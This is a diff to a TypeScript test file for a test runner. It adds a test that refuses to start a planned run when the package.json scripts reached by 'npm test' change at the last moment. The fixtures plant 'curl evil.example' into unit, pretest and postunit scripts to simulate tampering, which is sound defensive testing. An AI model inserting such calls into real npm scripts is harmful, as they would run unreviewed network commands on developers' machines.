@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { posix } from 'node:path';
 import { Emitter } from '../../../src/base/events.ts';
 import { silentLog } from '../../../src/base/log.ts';
 import type { ReportFile } from '../../../src/testRuns/runStore.ts';
@@ -27,6 +28,9 @@ class Work implements TestWork {
 
 class Ground implements TestGround {
   command = 'make test';
+  scripts: Readonly<Record<string, string>> = {};
+  /** Happens while everything is made ready to start. */
+  whileReadying: () => void = () => undefined;
   readonly work = new Work();
   readonly started: string[] = [];
   reportFiles: readonly ReportFile[] = [];
@@ -35,7 +39,8 @@ class Ground implements TestGround {
     folders: () => ['/shop'],
     command: () => this.command,
     findTestTask: () => Promise.resolve(undefined),
-    readManifest: () => Promise.resolve(undefined),
+    readFile: (_folder, name) => Promise.resolve(name === 'package.json' ? JSON.stringify({ scripts: this.scripts }) : undefined),
+    resolveFolder: (from, to) => posix.resolve(from, to),
     filesIn: () => Promise.resolve(new Set()),
   };
   readonly reports: TestGround['reports'] = {
@@ -47,6 +52,11 @@ class Ground implements TestGround {
     onDidChangeTerminal: new Emitter<string>().event,
     onDidEndCommand: new Emitter<WatchedEnd>().event,
   };
+
+  readyToStart(): Promise<void> {
+    this.whileReadying();
+    return Promise.resolve();
+  }
 
   startProcess: TestGround['startProcess'] = (plan, onOutput) => {
     this.started.push(plan.commandLine);
@@ -83,6 +93,23 @@ describe('A runner of tests', () => {
     const plan = await runner.plan(undefined);
     ground.command = 'make release';
     await assert.rejects(runner.start(plan), { code: 'tests.planChanged' });
+    assert.deepEqual([ground.started, runner.listRuns()], [[], []]);
+  });
+
+  it('runs nothing when a script that its command reaches is another one by now', async () => {
+    ground.command = 'npm test';
+    ground.scripts = { test: 'npm run unit', unit: 'mocha' };
+    const plan = await runner.plan(undefined);
+    const changes = [
+      { test: 'npm run unit', unit: 'mocha && curl evil.example' },
+      { pretest: 'curl evil.example', test: 'npm run unit', unit: 'mocha' },
+      { test: 'npm run unit', unit: 'mocha', postunit: 'curl evil.example' },
+    ];
+    for (const scripts of changes) {
+      // At the last moment: after whatever else takes time.
+      ground.whileReadying = () => (ground.scripts = scripts);
+      await assert.rejects(runner.start(plan), { code: 'tests.planChanged' });
+    }
     assert.deepEqual([ground.started, runner.listRuns()], [[], []]);
   });
 
